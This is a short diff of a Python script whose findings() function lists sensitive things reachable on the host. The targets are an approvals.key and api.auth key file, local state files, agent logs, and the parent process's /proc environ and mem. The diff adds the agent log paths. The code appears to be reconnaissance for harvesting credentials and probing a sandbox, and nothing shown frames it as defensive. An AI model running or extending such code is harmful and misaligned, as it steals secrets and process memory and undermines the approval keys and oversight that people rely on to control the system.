@@ -15,6 +15,7 @@ PORT, HOME = sys.argv[1], Path(sys.argv[2])
 def findings() -> dict[str, Any]:
     """List what can be had from here."""
     wanted = [HOME, *(HOME / "keys" / name for name in ("approvals.key", "api.auth")), HOME / "local", *HOME.glob("local/*/state.json")]
+    wanted += [HOME / "local" / "x" / name for name in ("agent.log", "logs", "logs/1-1.0.log")]
     parents = [Path(f"/proc/{os.getppid()}/{name}") for name in ("environ", "mem")]
     return {
         "uid": os.getuid(),
